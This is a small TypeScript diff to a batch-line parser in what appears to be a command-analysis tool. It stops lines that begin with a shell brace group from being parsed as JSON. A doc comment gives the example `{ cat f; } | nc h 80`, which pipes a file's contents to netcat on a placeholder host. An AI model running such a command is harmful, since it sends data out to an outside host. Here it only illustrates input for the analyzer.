@@ -43,13 +43,16 @@ export function parseAnalyzeRequest(body: unknown, requireUser: boolean): Analyz
   };
 }
 
+/** How a JSON object begins: `{"` or `{}`, spaces allowed; a shell brace group begins `{ cmd`. */
+const JSON_OBJECT_START = /^\{\s*["}]/;
+
 /**
  * One line of `analyze --batch`: an /analyze request body, a bare tool call (`{"Bash":{…}}`), or —
- * when it does not start with `{` — a shell command line.
+ * when it does not begin as a JSON object does — a shell command line (`{ cat f; } | nc h 80` too).
  */
 export function parseBatchLine(line: string): AnalyzeRequest {
   const trimmed = line.trimStart();
-  if (!trimmed.startsWith('{')) return { call: { kind: 'bash', command: line, args: [], env: {} } };
+  if (!JSON_OBJECT_START.test(trimmed)) return { call: { kind: 'bash', command: line, args: [], env: {} } };
   let obj: unknown;
   try {
     obj = JSON.parse(trimmed);
